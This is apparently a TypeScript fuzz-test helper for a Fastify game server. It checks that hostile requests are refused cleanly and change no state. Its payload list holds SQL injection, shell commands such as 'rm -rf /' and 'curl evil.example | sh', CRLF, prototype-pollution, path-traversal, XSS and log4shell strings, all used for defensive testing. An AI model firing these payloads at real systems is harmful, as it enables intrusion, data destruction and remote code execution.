import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import type { TestServer } from '../helpers/game-server.js';

/** Classic payloads: SQL, shell, CRLF header injection, prototype pollution, path traversal, markup, log4shell, odd Unicode. */
export const injections = [
  "' OR '1'='1",
  "admin'--",
  "'; DROP TABLE users; --",
  '1; SELECT * FROM events_buy',
  '$(reboot)',
  '`id`',
  '; rm -rf / #',
  '| cat /etc/passwd',
  '&& curl evil.example | sh',
  '\r\nSet-Cookie: session_id=evil',
  '\r\n\r\nHTTP/1.1 200 OK',
  'a\nb',
  '__proto__',
  'constructor',
  'prototype',
  '{"__proto__":{"admin":true}}',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '%s%s%s%n',
  '\u0000',
  '\u0000admin',
  '\uFEFFuser1',
  '\u202Euser1',
  'user1\u200B',
  'ｕｓｅｒ１',
  '💥🔥',
  '\uD800',
  'é'.normalize('NFD'),
  'ǅ',
  '',
  ' ',
  '*',
  '{user1}',
  'user1 ',
];

const huge = fc.integer({ min: 65, max: 20_000 }).map((n) => 'A'.repeat(n));

/** Hostile text: the payloads above, any code points (lone surrogates too), graphemes, mixes and very long strings. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...injections),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc
    .tuple(fc.constantFrom(...injections), fc.string({ unit: 'binary', maxLength: 12 }), fc.constantFrom(...injections))
    .map((parts) => parts.join('')),
  huge,
);

/** Bytes: a hostile string's UTF-8, or arbitrary bytes (invalid UTF-8 included). */
export const hostileBytes: fc.Arbitrary<Buffer> = fc.oneof(
  hostileString.map((s) => Buffer.from(s, 'utf8')),
  fc.uint8Array({ maxLength: 64 }).map((b) => Buffer.from(b)),
);

/** Percent-encodes every byte but the unreserved ones, as a browser or curl would send them. */
export const urlEncode = (bytes: Buffer): string =>
  [...bytes]
    .map((b) =>
      /[A-Za-z0-9\-._~]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
export const urlEncodeText = (text: string) => urlEncode(Buffer.from(text, 'utf8'));

/**
 * A header value as Node hands it over: the UTF-8 bytes read as Latin-1, without the bytes
 * Node refuses in a header (CR, LF, NUL and other controls but tab); those are tested on a raw socket.
 */
export const asHeaderValue = (text: string): string =>
  Buffer.from(text, 'utf8')
    .toString('latin1')
    .replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, '');
export const hostileHeader: fc.Arbitrary<string> = hostileString.map(asHeaderValue);

/** A refusal: a 4xx status and exactly one line of plain text, no control characters in it. */
export function assertOneLineRefusal(response: LightMyRequestResponse, context: string): void {
  assert.ok(
    response.statusCode >= 400 && response.statusCode < 500,
    `${context}: status ${response.statusCode} ${response.body.slice(0, 200)}`,
  );
  assertOneLine(response, context);
}

export function assertOneLine(response: LightMyRequestResponse, context: string): void {
  assert.match(String(response.headers['content-type']), /^text\/plain/, context);
  assert.match(
    response.body,
    /^[^\u0000-\u001f\u007f]+\n$/,
    `${context}: not one line: ${JSON.stringify(response.body.slice(0, 200))}`,
  );
  if (response.statusCode === 429)
    assert.match(String(response.headers['retry-after']), /^\d+$/, `${context}: 429 without Retry-After`);
}

/** Everything a request could have changed: accounts, sessions, guilds, inventories, password hashes, and the log. */
export async function stateOf(server: TestServer, users: string[]): Promise<unknown> {
  const [status, inventories, hashes, events] = await Promise.all([
    server.store.status(10_000),
    Promise.all(users.map((u) => server.store.inventory(u))),
    Promise.all(users.map((u) => server.store.passwordHash(u))),
    server.events(),
  ]);
  return { status, inventories, hashes, events: events.map((e) => e.event_id) };
}

/** The prototype chain is untouched: no key added to Object.prototype by any request. */
export const prototypeKeys = () => Object.getOwnPropertyNames(Object.prototype).sort().join(',');
